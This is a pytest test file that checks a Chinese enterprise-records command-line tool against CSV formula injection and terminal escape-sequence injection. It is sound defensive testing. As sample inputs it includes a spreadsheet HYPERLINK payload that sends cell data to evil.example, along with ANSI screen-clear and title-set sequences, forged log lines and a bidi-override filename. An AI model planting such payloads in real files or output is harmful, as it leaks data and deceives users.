"""Output that cannot inject (issue 18 items 6 and 7, issue 11 item 8, issue 19 item 3): formula-like
text neutralized in every CSV/TSV meant for a spreadsheet and nowhere else; control characters and
terminal escape sequences shown escaped on terminals and nowhere else."""
from __future__ import annotations

import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from conftest import run_kq
from kqtools.errors import ExitStatus
from kqtools.output import FORMULA_STARTS, neutralize, printable, write_file
from kqtools.uscc import make_uscc

# one firm per prefix a spreadsheet reads as the start of a formula; the district carries it too
PREFIXES = {
    "=": "=1+2",
    "+": '+HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
    "-": "-2+3公司",
    "@": "@SUM(A1:A9)",
    "tab": "\t=1+2",
    "cr": "\r=1+2",
}
CODES = {key: make_uscc("91", "320412", f"MA{i:06d}") for i, key in enumerate(PREFIXES)}
PLAIN = make_uscc("91", "320412", "MA999999")     # a firm whose cells need nothing
ESC_NAME = "\x1b[31m红色\x1b[0m公司\x07"

# writer: (how it is made, whether formula-like text is neutralized there)
WRITERS = {
    "-o x.csv": ("o", "x.csv", True),
    "-o x.tsv": ("o", "x.tsv", True),
    "-o x.txt (tsv)": ("o", "x.txt", True),
    "-f csv > file": ("stdout-file", "csv", True),
    "-f tsv > file": ("stdout-file", "tsv", True),
    "-o x.xlsx": ("o", "x.xlsx", False),           # string cells are never formulas
    "-f csv | cat": ("stdout-pipe", "csv", False),  # a pipeline gets the data as it is
    "-f tsv | cat": ("stdout-pipe", "tsv", False),
}


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    """A database whose firms' names and districts begin with each prefix (written straight into
    the table, as any program may have put them there), and a cache of each writer's output."""
    folder = tmp_path_factory.mktemp("safety")
    db = folder / "kq.db"
    assert run_kq("init", db=db).returncode == 0
    with sqlite3.connect(db) as conn:
        conn.executemany("INSERT INTO enterprises (uscc, name, district) VALUES (?, ?, ?)",
                         [(CODES[k], v, v) for k, v in PREFIXES.items()] + [(PLAIN, "常州示例有限公司", "湖塘镇")])
    conn.close()
    return {"db": db, "folder": folder, "outputs": {}}


def kq_process(args, db, stdout):
    env = {**os.environ, "PYTHONIOENCODING": "utf-8", "KQ_DB": str(db)}
    return subprocess.run([sys.executable, "-m", "kqtools", *map(str, args)], stdout=stdout,
                          stderr=subprocess.PIPE, env=env, cwd=db.parent, timeout=120)


def cells_of(world, writer) -> dict[str, tuple[str, str]]:
    """uscc -> (name, district) as the writer wrote them, read back as a spreadsheet would."""
    if writer in world["outputs"]:
        return world["outputs"][writer]
    how, what, _ = WRITERS[writer]
    db, folder = world["db"], world["folder"]
    if how == "o":
        path = folder / what
        r = run_kq("enterprises", "list", "-o", path, db=db)
        assert r.returncode == 0, r
        if what.endswith(".xlsx"):
            import python_calamine

            rows = python_calamine.CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python()
        else:
            with path.open(encoding="utf-8-sig", newline="") as fh:
                rows = list(csv.reader(fh, delimiter="," if what.endswith(".csv") else "\t"))
    else:
        if how == "stdout-file":
            path = folder / f"stdout.{what}"
            with path.open("wb") as fh:                 # kq … -f csv > stdout.csv
                r = kq_process(["enterprises", "list", "-f", what], db, fh)
            data = path.read_bytes()
        else:                                           # kq … -f csv | cat
            r = kq_process(["enterprises", "list", "-f", what], db, subprocess.PIPE)
            data = r.stdout
        assert r.returncode == 0, r.stderr
        rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline=""), delimiter="," if what == "csv" else "\t"))
    header = rows[0]
    i_uscc, i_name, i_district = header.index("uscc"), header.index("name"), header.index("district")
    found = {row[i_uscc]: (row[i_name], row[i_district]) for row in rows[1:]}
    world["outputs"][writer] = found
    return found


@pytest.mark.parametrize("prefix", PREFIXES)
@pytest.mark.parametrize("writer", WRITERS)
def test_formula_like_text_is_neutralized_exactly_where_a_spreadsheet_reads_it(world, writer, prefix):
    value = PREFIXES[prefix]
    neutralized = WRITERS[writer][2]
    expected = "'" + value if neutralized else value
    assert cells_of(world, writer)[CODES[prefix]] == (expected, expected)
    assert cells_of(world, writer)[PLAIN] == ("常州示例有限公司", "湖塘镇")   # the rest as it is


def test_hyperlink_is_neutralized_in_csv_redirected_to_a_file_but_not_through_cat(world, tmp_path):
    """As a clerk types it, through a shell: `kq … -f csv > x.csv` is for Excel; `| cat` is a pipeline."""
    db = world["db"]
    out, piped = tmp_path / "x.csv", tmp_path / "piped.csv"
    kq = f"{sys.executable} -m kqtools --db {db} enterprises list -f csv"
    subprocess.run(["bash", "-c", f"{kq} > {out} && {kq} | cat > {piped}"], check=True, cwd=tmp_path, timeout=120)
    def names(path):
        return {row[0]: row[1] for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline=""))}

    assert names(out)[CODES["+"]] == "'" + PREFIXES["+"]
    assert names(piped)[CODES["+"]] == PREFIXES["+"]


def test_numbers_are_numbers_and_only_text_is_neutralized(tmp_path):
    rows = [{"code": "-5", "amount": -5, "share": -0.25, "note": "+86 0519", "ok": True, "no": False,
             "kinds": ["专精特新", "-1"], "whole": 3.0}]
    write_file(str(tmp_path / "x.csv"), rows, list(rows[0]))
    with (tmp_path / "x.csv").open(encoding="utf-8-sig", newline="") as fh:
        assert list(csv.reader(fh))[1] == ["'-5", "-5", "-0.25", "'+86 0519", "true", "false",
                                           '["专精特新", "-1"]', "3"]


csv_text = st.text(st.sampled_from(list("=+-@\t\r\n,\"' a甲") + ["\x1b"]), max_size=8)


@settings(max_examples=200)
@given(st.lists(st.tuples(csv_text, csv_text), min_size=1, max_size=5))
def test_a_csv_for_excel_holds_every_value_with_exactly_one_apostrophe_where_needed(tmp_path_factory, rows):
    """Any text survives the trip through a CSV for Excel (quotes, separators, line breaks), changed
    only by the one apostrophe kq's importer strips again; nothing read back starts a formula."""
    path = tmp_path_factory.mktemp("csv") / "x.csv"
    write_file(str(path), [{"a": a, "b": b} for a, b in rows], ["a", "b"])
    with path.open(encoding="utf-8-sig", newline="") as fh:
        back = list(csv.reader(fh))[1:]
    assert back == [[neutralize(a), neutralize(b)] for a, b in rows]
    for cell in (c for row in back for c in row):
        assert not cell.startswith(FORMULA_STARTS)


@settings(max_examples=200)
@given(st.lists(st.lists(csv_text, min_size=2, max_size=2), min_size=1, max_size=5), st.sampled_from(["csv", "tsv"]))
def test_csv_for_a_pipeline_holds_every_value_exactly(rows, fmt):
    """Machine CSV/TSV keeps the data as it is, also a bare carriage return inside a cell."""
    from kqtools.output import render

    buf = io.StringIO()
    render([{"a": a, "b": b} for a, b in rows], ["a", "b"], fmt, buf)
    back = list(csv.reader(io.StringIO(buf.getvalue(), newline=""), delimiter="," if fmt == "csv" else "\t"))
    assert back == [["a", "b"], *rows]


@given(st.text())
def test_neutralize_adds_one_apostrophe_exactly_before_formula_like_text(text):
    out = neutralize(text)
    assert not out.startswith(FORMULA_STARTS)
    assert out == ("'" + text if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text)


# ---------------------------------------------------------------- terminals
@given(st.text())
def test_printable_leaves_no_control_character_and_plain_text_as_it_is(text):
    import unicodedata

    shown = printable(text)
    assert not any(unicodedata.category(ch) == "Cc" or ch in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
                   for ch in shown)
    if all(unicodedata.category(ch) != "Cc" and not "\u2028" <= ch <= "\u202e" and not "\u2066" <= ch <= "\u2069"
           and ch not in "\u061c\u200e\u200f" for ch in text):
        assert shown == text


@pytest.mark.parametrize("raw, shown", [
    ("\x1b[31m红\x1b[0m", "\\x1b[31m红\\x1b[0m"), ("a\nb\r\tc", "a\\nb\\r\\tc"), ("\x07\x00\x7f", "\\x07\\x00\\x7f"),
    ("\x9b2J", "\\x9b2J"), ("abc\u202eexe.txt", "abc\\u202eexe.txt"), ("常州\\x1b", "常州\\x1b")])
def test_printable_spells_out_each_control_character(raw, shown):
    assert printable(raw) == shown


@pytest.fixture
def escaped_world(kq, db_path):
    assert kq("init").returncode == 0
    with sqlite3.connect(db_path) as conn:
        conn.execute("INSERT INTO enterprises (uscc, name, district) VALUES (?, ?, ?)", (PLAIN, ESC_NAME, "湖塘镇\x1b]0;x\x07"))
    conn.close()


def test_terminal_escapes_in_a_name_are_shown_escaped_in_a_table(kq, escaped_world):
    table = kq("enterprises", "list", "-f", "table").stdout
    assert "\x1b" not in table and "\x07" not in table
    assert "\\x1b[31m红色\\x1b[0m公司\\x07" in table and "湖塘镇\\x1b]0;x\\x07" in table
    shown = kq("enterprises", "show", PLAIN, "-f", "table").stdout
    assert "\x1b" not in shown and "\\x1b[31m红色" in shown


def test_machine_output_keeps_the_data_as_it_is(kq, escaped_world):
    assert kq("enterprises", "list", "-f", "json").json()[0]["name"] == ESC_NAME   # JSON escapes it itself
    assert "\\u001b[31m" in kq("enterprises", "list", "-f", "jsonl").stdout
    rows = list(csv.reader(io.StringIO(kq("enterprises", "list", "-f", "csv").stdout)))
    assert rows[1][1] == ESC_NAME


def test_terminal_escapes_in_messages_are_shown_escaped(kq, tmp_path):
    hostile = tmp_path / "\x1b[2J\x1b[31m清屏.csv"
    for r, words in [
        (kq("import", "enterprises", hostile), "\\x1b[2J\\x1b[31m清屏.csv: no such file"),                 # error line
        (kq("enterprises", "list", "\x1b]0;pwned\x07"), "unexpected extra argument (\\x1b]0;pwned\\x07)"),  # click's
        (kq("enterprises", "list", "-o", tmp_path / "a\nkq: forged line.csv"), "a\\nkq: forged line.csv"),  # info line
    ]:
        assert "\x1b" not in r.stderr and "\x07" not in r.stderr and words in r.stderr, r
        assert "forged" not in r.stderr or len(r.stderr.strip().splitlines()) == 1, r
    assert kq("enterprises", "list", "--limit", "\x1b[31m5").returncode == ExitStatus.USAGE


def test_an_internal_error_line_shows_control_characters_escaped(kq, monkeypatch):
    """The last-resort line for a bug quotes the exception's text: escaped too."""
    from kqtools.storage import enterprises

    def broken(*args, **kwargs):
        raise RuntimeError("bad \x1b[31mvalue\r\nkq: forged")

    monkeypatch.setattr(enterprises, "list_enterprises", broken)
    r = kq("enterprises", "list", subprocess=False)
    assert r.returncode == ExitStatus.USAGE and "\x1b" not in r.stderr and "\r" not in r.stderr
    assert r.stderr.strip().splitlines() == [
        "kq: internal error: RuntimeError: bad \\x1b[31mvalue\\r\\nkq: forged (run with --debug for the traceback)"]


@pytest.mark.parametrize("fmt, sep", [("csv", ","), ("tsv", "\t")])
def test_csv_for_a_pipeline_is_quoted_only_where_it_must_be(fmt, sep):
    """The machine contract: plain cells as they are, LF line ends; quotes only around a separator,
    a quote or a line break (and around every cell of a row holding a bare CR)."""
    from kqtools.output import render

    buf = io.StringIO()
    rows = [{"a": "甲公司", "b": 12.5}, {"a": f"x{sep}y", "b": None}, {"a": "a\rb", "b": 1}]
    assert render(rows, ["a", "b"], fmt, buf) == 3
    assert buf.getvalue() == f'a{sep}b\n甲公司{sep}12.5\n"x{sep}y"{sep}\n"a\rb"{sep}"1"\n'


def test_jsonl_and_json_hold_every_row_past_a_batch(tmp_path):
    """JSONL goes out 256 lines at a time: 600 rows are 600 lines, in order; JSON one array."""
    from kqtools.output import render

    rows = [{"i": i, "name": f"企业{i}"} for i in range(600)]
    for fmt in ("jsonl", "json"):
        buf = io.StringIO()
        assert render(iter(rows), ["i", "name"], fmt, buf) == 600
        back = [json.loads(line) for line in buf.getvalue().splitlines()] if fmt == "jsonl" else json.loads(buf.getvalue())
        assert back == rows
